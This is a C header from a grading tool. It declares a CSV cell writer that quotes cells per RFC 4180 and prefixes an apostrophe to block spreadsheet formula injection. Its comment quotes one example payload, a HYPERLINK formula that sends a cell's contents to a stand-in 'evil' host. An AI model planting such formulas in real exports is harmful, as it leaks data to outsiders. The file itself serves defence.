/*
 * csv.h - the one way the grader writes a text cell of a CSV file
 * (grades.csv, the Canvas and Moodle import files): RFC 4180 quoting, and a
 * guard against spreadsheet formula injection.
 *
 * A spreadsheet (Excel, LibreOffice, Google Sheets) opening a CSV runs a
 * cell that starts with = + - or @ as a formula: a student named
 * `=HYPERLINK("http://evil/?"&A1,"click")` would otherwise get a live
 * formula into the instructor's gradebook.  Following OWASP's "CSV
 * Injection" advice, a text cell starting with one of = + - @ or a tab or
 * carriage return gets a leading apostrophe, which spreadsheets treat as
 * "this is text" (and hide).  Numbers the grader computes itself (scores,
 * maxima) are written as numbers, not through csv_add_cell, so that a score
 * stays a number even if it were negative.
 *
 * Ownership: writes into the caller's strbuf; keeps nothing.
 */
#ifndef GRADER_CSV_H
#define GRADER_CSV_H

#include <stdbool.h>

#include "base/util.h"

/* Would a spreadsheet take a cell starting like s for a formula? */
bool csv_needs_guard(const char *s);

/* Append s as one cell: guarded (above), then quoted when it holds , " CR or LF. */
void csv_add_cell(struct strbuf *sb, const char *s);

#endif
